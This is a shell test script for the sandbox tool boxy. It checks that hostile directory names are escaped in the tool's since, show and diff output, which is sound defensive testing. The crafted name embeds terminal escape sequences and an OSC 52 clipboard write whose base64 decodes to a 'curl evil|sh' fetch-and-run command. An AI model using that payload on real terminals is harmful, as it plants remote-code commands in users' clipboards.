# tests/escape/cases-review15.sh — a hostile review of what issue 15 added on
# top of the record: "new since the last run", boxy diff (sourced by escape.sh).
#
#   review15-diff-names   the same command twice in one directory; the second
#                         run plants a repository under a directory whose name
#                         carries ESC, an OSC 52 clipboard write, C1 CSI, an
#                         overlong C0 9B and U+202E, so it is a new finding
#                         since the first. It reaches the run's "new since the
#                         last run" line, boxy show's new list, boxy diff and
#                         diff --json. ESCAPED when any carries such a byte raw
#                         (the screen sanitizer, or the JSON encoder, missed).
# The other attacks of that review are end-to-end tests of their features:
# tests/e2e/gate.sh (a client flooded into losing the end, an alert too long
# to decode), since.sh (decoys past the cap), verify.sh (a log renamed over),
# dns-exfil.sh (tunnels shaped under the rules). Sandboxed phase only: the
# attack is on boxy's own views.

# files_raw (cases-files.sh) counts the raw control bytes.

review15_cases() {
	[ "$PHASE" = sandbox ] || return 0

	if only review15-diff-names; then
		case_new review15-diff-names
		cat >"$CASE_WORK/job.sh" <<'SH'
[ -e second ] || exit 0
d=$(printf "r\033]52;c;Y3VybCBldmlsfHNo\007\302\233""31m\300\233""2J\342\200\256gpj")
mkdir -p "$d/.git" && echo "[core]" >"$d/.git/config"
echo BOXY-CASE-DONE
SH
		boxy_run -- /bin/sh job.sh
		local a b raw="" f
		a=$(HOME=$CASE_HOME "$BOXY" ps -a 2>/dev/null | awk 'NR == 2 { print $1 }')
		touch "$CASE_WORK/second"
		boxy_run -- /bin/sh job.sh
		cp "$CASE/err" "$CASE/err.run"
		b=$(HOME=$CASE_HOME "$BOXY" ps -a 2>/dev/null | awk 'NR == 2 { print $1 }')
		HOME=$CASE_HOME "$BOXY" show "$b" </dev/null >"$CASE/show" 2>&1
		HOME=$CASE_HOME "$BOXY" diff "$a" "$b" </dev/null >"$CASE/diff" 2>&1
		HOME=$CASE_HOME "$BOXY" diff --json "$a" "$b" </dev/null >"$CASE/diff.json" 2>&1
		for f in err.run show diff diff.json; do
			[ "$(files_raw "$CASE/$f")" = 0 ] || raw="$raw $f"
		done
		if ! grep -q 'new since the last run: .*gpj' "$CASE/err.run" ||
			! grep -q gpj "$CASE/diff"; then
			not_ok "hostile names in since and diff: the planted repository was not reported new (nothing tested)"
			diag_file "$CASE/err.run" 8
			diag_file "$CASE/diff" 5
		elif ! python3 -c 'import json, sys; json.load(open(sys.argv[1], encoding="utf-8"))' \
			"$CASE/diff.json" 2>/dev/null; then
			not_ok "hostile names in boxy diff --json: not valid JSON in UTF-8"
			diag_file "$CASE/diff.json" 3
		elif [ -n "$raw" ]; then
			not_ok "hostile names reach since's line, show's new list, diff and diff --json escaped"
			diag "ESCAPED: raw control bytes in:$raw"
		else
			ok "hostile names reach since's line, show's new list, diff and diff --json escaped"
		fi
	fi
}
CASE_GROUPS+=(review15_cases)
